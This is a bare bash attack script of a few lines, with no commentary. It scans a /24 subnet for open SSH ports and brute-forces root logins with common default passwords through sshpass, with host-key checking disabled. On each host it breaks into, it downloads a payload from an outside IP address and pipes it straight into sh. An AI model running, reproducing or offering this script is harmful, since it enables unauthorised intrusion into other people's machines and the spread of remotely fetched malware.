#!/bin/bash
for ip in $(seq 1 254); do
  (echo > /dev/tcp/192.168.4.$ip/22) 2>/dev/null && for p in root toor admin 123456; do
    sshpass -p $p ssh -o StrictHostKeyChecking=no root@192.168.4.$ip "wget -qO- http://203.0.113.18/w|sh" && break
  done
done
